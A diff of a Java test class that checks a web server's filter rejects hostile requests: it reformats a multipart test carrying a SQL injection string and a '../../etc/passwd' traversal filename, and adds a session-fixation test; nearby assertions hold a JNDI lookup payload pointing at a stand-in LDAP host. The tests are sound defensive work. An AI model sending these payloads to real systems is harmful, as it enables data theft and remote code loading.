@@ -350,7 +350,9 @@ abstract class ContainerContract {
     String attack = "1' union select password from users--";
     String field = "--XX\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n" + attack;
     String file =
-        "--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../etc/passwd\"\r\n\r\nx";
+        "--XX\r\n"
+            + "Content-Disposition: form-data; name=\"f\"; filename=\"../../etc/passwd\"\r\n\r\n"
+            + "x";
 
     assertThat(
             post("/parts", "multipart/form-data; boundary=XX", field + "\r\n--XX--").statusCode())
@@ -564,6 +566,15 @@ abstract class ContainerContract {
     assertThat(post("/files/code/1", FORM, "script=%24%7Bjndi:ldap://e.example/a%7D").statusCode())
         .isEqualTo(403);
     assertThat(post("/files/code/1", FORM, "name=" + UNION).statusCode()).isEqualTo(403);
+  }
+
+  @Test
+  void get_sessionIdThatAnotherSiteLeadsTo_isRefusedAndOneFromNowhereIsNot() throws Exception {
+    String path = "/params?JSESSIONID=A1B2C3";
+
+    assertThat(client().get(path, PROXY, me, "Referer", "https://evil.example/").statusCode())
+        .isEqualTo(403);
+    assertThat(get(path).statusCode()).isEqualTo(200);
   }
 
   private void block(String address) {
